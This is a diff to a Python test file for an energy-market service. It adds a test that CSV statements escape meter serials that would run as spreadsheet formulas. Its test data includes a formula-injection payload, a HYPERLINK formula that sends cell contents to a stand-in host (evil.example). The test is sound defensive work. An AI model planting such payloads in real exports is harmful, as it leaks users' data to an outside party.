@@ -22,7 +22,7 @@ from central.http.roles import Role
 from central.ledger.builder import associated_token_address
 from central.ledger.cosign import sign_request
 from central.ledger.tokens import MEMO_PROGRAM_ID, TOKEN_PROGRAM_ID
-from central.market.matching import parse_memo
+from central.market.matching import HourRow, parse_memo, statement, to_csv
 from tests.central.market.http_env import Env, auth, funded_user
 from tests.central.pg import add_device, add_meter
 
@@ -171,3 +171,14 @@ async def test_an_unsigned_redemption_expires_and_gives_its_wh_back(env: Env) ->
     assert (await matching.store.get(uid, uuid.UUID(built["id"]))).status == "expired"
     r = await client.post("/api/v1/market/redemptions", json=body, headers=h)
     assert r.status == 201  # the hour's Wh are free again
+
+
+def test_statement_csv_does_not_let_a_meter_serial_run_as_a_spreadsheet_formula() -> None:
+    """Meter serials are any printable ASCII, chosen by whoever registers the meter: one like ``=HYPERLINK(...)``
+    was written as is and ran as a formula when the household opened its statement in a spreadsheet."""
+    hour = datetime(2026, 3, 1, 10, tzinfo=UTC)
+    serials = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "EM-000123"]
+    rows = [HourRow(serial, hour, 1000, 500, 5000, []) for serial in serials]
+    parsed = list(csv.reader(io.StringIO(to_csv(statement(uuid.uuid4(), "2026-03", rows)))))
+    cells = [row[0] for row in parsed[1:-1]]
+    assert cells == ["'" + s for s in serials[:4]] + ["EM-000123"]
